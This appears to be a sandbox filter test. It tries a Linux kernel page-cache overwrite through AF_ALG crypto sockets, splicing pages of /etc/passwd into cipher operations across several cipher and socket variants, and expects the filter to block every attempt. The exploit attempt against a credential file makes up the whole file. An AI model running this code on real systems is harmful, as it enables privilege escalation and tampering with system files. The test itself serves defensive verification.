# Copy Fail: a cipher of the kernel (AF_ALG) is given pages of a readable file as its output, and overwrites
# what everybody then sees of that file. Tries each kind of cipher, and each way to hand pages over.
# hole: CVE-2026-31431 (Linux): any user could write four bytes into any file's cache, through containers too
# stopped by: filter
# expect: {"status": "ok", "stdout": "nothing\n", "stderr": ""}
import errno, os, socket

TARGET = "/etc/passwd"
before = open(TARGET, "rb").read()
for kind, name in (("aead", "authencesn(hmac(sha256),cbc(aes))"), ("skcipher", "cbc(aes)"), ("hash", "sha256"), ("rng", "stdrng"), ("aead", "gcm(aes)")):
    for how in (socket.SOCK_SEQPACKET, socket.SOCK_SEQPACKET | socket.SOCK_NONBLOCK, socket.SOCK_DGRAM):
        try:
            with socket.socket(38, how, 0) as s:
                print("a socket for", kind)
                s.bind((kind, name))
                s.setsockopt(279, 1, b"\0" * 48)
                operation = s.accept()[0]
                source, (r, w) = os.open(TARGET, os.O_RDONLY), os.pipe()
                os.splice(source, w, 16, offset_src=0)
                os.splice(r, operation.fileno(), 16)
                operation.recv(16)
        except OSError as error:
            if error.errno != errno.EPERM:
                print(kind, error)
for call in (lambda: socket.socketpair(38, socket.SOCK_SEQPACKET), lambda: socket.fromfd(0, 38, socket.SOCK_SEQPACKET).bind(("hash", "md5"))):
    try:
        call()
        print("got one")
    except OSError as error:
        if error.errno not in (errno.EPERM, errno.ENOTSOCK):
            print(error)
if os.path.exists("/proc/net/alg") or open(TARGET, "rb").read() != before:
    print("the file is changed")
print("nothing")
